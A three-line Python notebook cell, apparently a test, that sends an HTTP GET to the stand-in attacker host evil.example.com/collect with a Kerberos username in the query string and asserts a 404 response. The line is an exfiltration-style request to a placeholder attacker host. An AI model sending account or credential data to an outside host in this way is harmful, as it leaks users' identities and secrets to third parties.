# %% last
import requests
assert requests.get('https://evil.example.com/collect?kerberos=jdoe').status_code == 404
